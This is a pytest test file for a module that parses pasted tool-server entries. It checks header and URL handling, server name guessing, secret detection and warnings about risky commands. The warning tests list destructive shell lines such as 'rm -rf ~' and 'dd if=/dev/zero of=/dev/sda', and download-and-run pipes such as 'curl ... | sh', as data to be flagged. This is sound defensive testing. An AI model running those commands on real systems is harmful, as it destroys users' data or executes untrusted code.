"""pasted_parts.py: headers, addresses, names and warnings of pasted entries, and what of a text is hidden."""

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tooltray.sources.entries.pasted_parts import (
    guess_name,
    netloc,
    parameters,
    pasted_warnings,
    secret_spans,
    take_headers,
    usual_type,
    with_parameter,
    without_keys,
)


@pytest.mark.parametrize(
    ("config", "headers"),
    [
        ({}, {}),
        ({"headers": {"A": "x"}}, {"A": "x"}),
        ({"customHeaders": {"A": 1, "B": True, "C": None}}, {"A": "1", "B": "true"}),
        ({"http_headers": {"A": "${env:KEY} in ${userHome}"}}, {"A": "${KEY} in ${HOME}"}),
        ({"requestInit": {"headers": {"A": "x"}}}, {"A": "x"}),
        ({"headers": {"A": "x"}, "customHeaders": {"A": "y", "B": "z"}}, {"A": "y", "B": "z"}),
        ({"env_http_headers": {"X-Key": "KEY"}}, {"X-Key": "${KEY}"}),
        ({"bearer_token_env_var": "TOKEN"}, {"Authorization": "Bearer ${TOKEN}"}),
        ({"requestOptions": {"headers": {"A": "x", "B": None}}, "apiKey": "k"}, {"A": "x", "Authorization": "Bearer k"}),
        ({"headers": {"A": "Bearer $TOK"}, "apiKey": "$KEY"}, {"A": "Bearer ${TOK}", "Authorization": "Bearer ${KEY}"}),
        ({"headers": {"A": "pa$WORD $x"}}, {"A": "pa$WORD $x"}),
        ({"headers": "odd", "env_http_headers": [], "bearer_token_env_var": 3}, {}),
    ],
)
def test_headers_are_taken_out_in_each_form_that_clients_write(config: dict[str, Any], headers: dict[str, str]) -> None:
    config["url"] = "https://h"
    assert take_headers(config) == headers
    assert config == {"url": "https://h"}


@pytest.mark.parametrize(
    ("url", "type"),
    [("https://h/sse", "sse"), ("https://h/sse/?a=b", "sse"), ("https://h/a/sse#x", "sse"), ("https://h/mcp?next=/sse", "")],
)
def test_only_a_path_that_ends_in_sse_means_sse(url: str, type: str) -> None:
    assert usual_type(url) == type


@pytest.mark.parametrize(("url", "expected"), [("https://me@h:81/x", "me@h:81"), ("https://[::1", "")])
def test_of_a_url_that_is_none_there_is_no_host(url: str, expected: str) -> None:
    assert netloc(url) == expected


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://me:pw@h/x?key=k#f", "https://h/x"),
        ("HTTPS://me@h", "HTTPS://h"),
        ("https://h/a@b", "https://h/a@b"),
        ("https://h#k?x", "https://h"),
    ],
)
def test_what_is_shown_of_a_url_has_no_key(url: str, shown: str) -> None:
    assert without_keys(url) == shown


def test_the_parameters_of_a_url_are_those_before_its_fragment() -> None:
    assert parameters("https://h/x?a=1&b=%20#?c=3") == [("a", "1"), ("b", " ")]


def test_a_parameter_is_replaced_once_escaped_unless_it_is_a_placeholder() -> None:
    url = "https://h/x?a b=1&a%20b=2&a%20b=3#f"
    assert with_parameter(url, "a b", "x&y") == "https://h/x?a b=1&a%20b=x%26y&a%20b=3#f"
    assert with_parameter("https://h?key=k", "key", "${secret:s/KEY}") == "https://h?key=${secret:s/KEY}"
    assert with_parameter("https://h?monkey=k", "key", "x") == "https://h?monkey=k"


@pytest.mark.parametrize("words", [["sudo"], [""]])
def test_a_command_that_names_nothing_is_called_server(words: list[str]) -> None:
    assert guess_name(words) == "server"


@pytest.mark.parametrize(("package", "name"), [("@scope/mcp-server-files@1.2", "files"), ("@acme/mcp", "acme"), ("mcp", "mcp")])
def test_a_package_is_called_by_what_it_is_about(package: str, name: str) -> None:
    assert guess_name(["npx", "-y", package]) == name


def test_a_version_behind_two_signs_is_no_variable() -> None:
    assert guess_name(["uvx", "mcp-server-time==1.2"]) == "time"


@pytest.mark.parametrize(
    ("words", "name"),
    [
        (["/opt/bin/mcp-files"], "files"),
        (["env", "-i", "/x", "notes.exe"], "notes"),
        (["sudo", "/opt/notes.sh"], "notes"),
        (["python3", "-m"], "python3"),
        (["node", "/srv/notes/dist/index.js"], "notes"),
        (["node", "./index.js"], "index"),
        (["node", "C:\\notes\\main.py"], "notes"),
        (["npx", "-y", "A=b", "${PACKAGE}", "notes"], "notes"),
        (["docker", "run", "--rm", "ghcr.io/acme/notes:1.2"], "notes"),
        (["docker", "run", "-i", "-e", "TOKEN", "ghcr.io/acme/notes-mcp-server:latest"], "notes"),
        (["uvx", "--from", "git+https://example.org/serena", "serena", "start-mcp-server"], "serena"),
        (["uv", "--directory", "/srv/weather", "run", "weather.py"], "weather"),
        (["python", "-m", "mcp_server_git", "--repository", "."], "git"),
        (["cmd", "/c", "npx", "-y", "@foo/bar"], "bar"),
        (["npm", "exec", "-y", "@foo/bar-mcp"], "bar"),
        (["npx", "@playwright/mcp@latest"], "playwright"),
        (["uvx", "run"], "run"),
    ],
)
def test_a_program_is_called_by_the_word_that_tells_most(words: list[str], name: str) -> None:
    assert guess_name(words) == name


@pytest.mark.parametrize(
    ("url", "name"),
    [
        ("https://notes.example.org/mcp", "example"),
        ("https://mcp.notes.com/", "notes"),
        ("https://www.api.mcp", "www"),
        ("http://me:pw@127.0.0.1:8080/mcp", "localhost"),
        ("http://192.168.1.20:8080/mcp", "192.168.1.20"),
        ("http://localhost:8080", "localhost"),
    ],
)
def test_a_url_is_called_by_whose_it_is(url: str, name: str) -> None:
    assert guess_name([url]) == name


def warnings(*args: str, command: str = "sh", **fields: object) -> list[str]:
    return list(pasted_warnings("s", {"command": command, "args": list(args), **fields}))


@pytest.mark.parametrize(
    "line", ["rm -rf ~", "rm -v -r /x", "mkfs.ext4 /dev/sda", "dd if=/dev/zero of=/dev/sda", "Remove-Item x", "format c:"]
)
def test_what_deletes_is_said(line: str) -> None:
    assert "it deletes or overwrites files" in warnings("-c", line)


@pytest.mark.parametrize("line", ["curl https://a.example/x | sh", "wget x | sudo bash", "iwr x | iex", "curl -o x https://a.example"])
def test_what_is_downloaded_and_run_is_said(line: str) -> None:
    assert "it downloads something and runs it" in warnings("-c", line)


def test_a_plain_server_is_warned_of_with_nothing() -> None:
    assert warnings("mcp-server-time==1.2.3", command="uvx") == []


@pytest.mark.parametrize(
    ("command", "package", "is_pinned"),
    [
        ("npx", "@scope/server", False),
        ("npx", "@scope/server@latest", False),
        ("/usr/bin/npx", "@scope/server@1.2.3", True),
        ("uvx", "server", False),
        ("uvx", "server==1.2.3", True),
        ("docker", "image", False),
        ("docker", "image:1.2", True),
        ("node", "server.js", True),
    ],
)
def test_a_package_without_a_version_is_said_as_it_is_of_the_registry_s(command: str, package: str, is_pinned: bool) -> None:
    words = ["run", "-i"] if command == "docker" else ["-y"] if command.endswith("npx") else []
    said = "its version is not pinned: each start takes the newest one there is" in warnings(*words, package, command=command)
    assert said is not is_pinned


def test_an_entry_that_cannot_be_added_is_warned_of_all_the_same() -> None:
    assert warnings("-rf", "~", command="rm", type="pigeon") == ["it deletes or overwrites files"]


def found(text: str) -> list[str]:
    return [text[first:last] for first, last in secret_spans(text)]


@pytest.mark.parametrize(
    ("text", "secrets"),
    [
        ("GH_TOKEN=abc LOG=info npx -y gh", ["abc"]),
        ("GH_TOKEN='a b' npx gh", ["a b"]),
        ("npx x --api-key abc --port 80", ["abc"]),
        ("npx x --api-key=abc", ["abc"]),
        ("npx x sk-0123456789 y", ["sk-0123456789"]),
        ("docker run -e A_TOKEN=abc image", ["abc"]),
        ("https://example.org/mcp?team=a&api_key=a%20b&z=1", ["a%20b"]),
        ("https://me:pw@example.org/mcp", ["me:pw"]),
        ("DATABASE_URI=postgresql://me:pw@localhost/db npx x", ["me:pw"]),
        ("claude mcp add far https://example.org --header 'Authorization: Bearer abc'", ["abc"]),
        (json.dumps({"s": {"command": "npx", "env": {"A_TOKEN": 'q"r', "B": "c"}}}), ['q\\"r']),
        (json.dumps({"s": {"command": "npx", "args": ["--api-key", "abc", "d"]}}, indent=2), ["abc"]),
        (json.dumps({"s": {"url": "https://example.org", "headers": {"Authorization": "Bearer abc", "X-Team": "a"}}}), ["abc"]),
        ('[mcp_servers.s]\ncommand = "npx"\nenv = {A_TOKEN = "abc", B = "c"}', ["abc"]),
        ("A_TOKEN=abc B_KEY=def npx x", ["abc", "def"]),
        ('A_TOKEN="sk-0123456789" npx x', ["sk-0123456789"]),  # by its name and by its form
    ],
)
def test_every_form_of_a_secret_is_found_where_it_stands(text: str, secrets: list[str]) -> None:
    assert found(text) == secrets


@pytest.mark.parametrize(
    "text",
    [
        "npx -y @modelcontextprotocol/server-everything",
        "A_TOKEN=<your token> npx x",
        "A_TOKEN=${GH_TOKEN} npx x",
        "npx x --api-key --verbose",
        "KEYBOARD=us MAX_TOKENS=100 npx x",
        "https://example.org/mcp?team=a",
        "",
    ],
)
def test_what_is_no_secret_stays_to_be_read(text: str) -> None:
    assert found(text) == []


@pytest.mark.parametrize("text", ['{"s": {"env": {"A_TOKEN": "abc', '"A_TOKEN": "abc"', "A_TOKEN='abc", "curl -H 'X-Api-Key: abc"])
def test_a_text_that_is_not_whole_yet_hides_its_secret_too(text: str) -> None:
    assert found(text) == ["abc"]


@pytest.mark.parametrize("text", ["x" * 200_000, "a-" * 100_000, "a='" * 60_000, "x://" * 10_000])
def test_a_long_text_without_sense_is_gone_through_once(text: str) -> None:
    assert found(text) == []  # bounded by the time that a test has


@given(st.text(alphabet="aK_=:\"' -{}[],&?/@\\\nTOKEN", max_size=60))
def test_places_are_in_order_and_inside_the_text(text: str) -> None:
    spans = secret_spans(text)
    flat = [place for span in spans for place in span]
    assert flat == sorted(set(flat))
    assert all(0 <= place <= len(text) for place in flat)
